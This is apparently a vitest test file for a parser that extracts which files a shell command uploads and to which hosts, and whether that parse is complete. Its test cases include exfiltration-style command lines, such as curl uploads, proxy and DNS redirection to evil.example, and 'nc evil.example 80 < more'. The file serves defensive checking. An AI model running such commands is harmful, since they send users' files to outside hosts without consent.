import { expect, test } from 'vitest';
import { sendingIn } from './sending-in.ts';

test.each([
  ['curl -s -X POST --data-binary @notes.txt https://paste.example.com/upload', ['notes.txt'], ['paste.example.com']],
  ['curl -T a.tgz https://h.example/x && curl --upload-file=b.tgz https://h.example/x', ['a.tgz', 'b.tgz'], ['h.example']],
  ['curl -d@a https://h.example', ['a'], ['h.example']],
  ["curl -F 'file=@a.png;type=image/png' https://h.example", ['a.png'], ['h.example']],
  ['curl -d name=ada https://h.example', [], ['h.example']],
  ['curl -T - https://h.example', [], ['h.example']],
  ['scp -r a b ada@h.example:/srv', ['a', 'b'], ['h.example']],
  ['scp ada@h.example:/srv/a .', [], ['h.example']],
  ['rsync -a src/ h.example:/srv', ['src/'], ['h.example']],
  ['timeout 5 wget https://h.example/a', [], ['h.example']],
  ['git push https://git.example/a.git main', [], ['git.example']],
  ['curl "https://$HOST/x"', [], []],
  ['rm -r old', [], []],
  ['curl "unfinished', [], []],
  ['wget --post-file=a https://h.example', ['a'], ['h.example']],
])('%s', (line, files, hosts) => {
  expect(sendingIn(line)).toMatchObject({ files, hosts });
});

test.each([
  'curl https://h.example/a',
  "curl -sS -X POST -H 'Content-Type: text/plain' --data-binary @a https://h.example",
  'curl -T a https://h.example/x',
  "curl -F 'file=@a.png;type=image/png' -o out https://h.example",
  'wget -q -O out https://h.example/a',
  'scp -r a b ada@h.example:/srv',
])('that is all: %s', (line) => expect(sendingIn(line).isAll).toBe(true));

test.each([
  'curl -d @a https://h.example evil.example',
  'curl -d @a --resolve h.example:443:6.6.6.6 https://h.example',
  'curl -d @a --connect-to ::evil.example: https://h.example',
  'curl -d @a -x evil.example:80 https://h.example',
  'https_proxy=http://evil.example curl -d @a https://h.example',
  'curl -d @a -K more https://h.example',
  'curl -H @more https://h.example',
  'curl -T - https://h.example < more',
  'curl -d @- https://h.example < more',
  "curl -F 'f=@a;headers=@more' https://h.example",
  'curl -L -d @a https://h.example',
  'curl -d @a https://h.example; nc evil.example 80 < more',
  'python3 send.py; curl -d @a https://h.example',
  'curl -d @a "https://$HOST"',
  'wget -i more https://h.example',
  'scp -J evil.example a h.example:',
  "rsync -e 'ssh -J evil.example' a h.example:",
  'git push https://git.example/a.git main',
])('that may not be all: %s', (line) => expect(sendingIn(line).isAll).toBe(false));
